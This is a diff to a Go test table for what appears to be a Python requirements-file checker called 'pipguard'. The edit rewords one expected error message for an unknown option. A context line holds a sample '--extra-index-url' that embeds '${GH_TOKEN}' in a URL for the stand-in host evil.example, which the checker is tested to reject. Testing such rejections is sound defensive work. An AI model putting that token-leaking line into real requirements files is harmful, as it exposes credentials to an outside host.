@@ -73,7 +73,7 @@ func TestParseFileErrors(t *testing.T) {
 		"-r loop.txt":                   "includes itself",
 		"-e git+https://h/o/r@v1#egg=x": "editable git install",
 		"-e ./local":                    "editable installs",
-		"--frobnicate":                  `unknown or unsupported option "--frobnicate"`,
+		"--frobnicate":                  `no such option: --frobnicate`,
 		"--extra-index-url https://u:${GH_TOKEN}@evil.example/simple": "refers to ${GH_TOKEN}: pipguard never hands a GitHub token",
 		"-c bad-constraints.txt":    "a constraint must be a name with a version specifier, not a URL",
 		"demo @ git+https://h/o/r@": "empty ref after @",
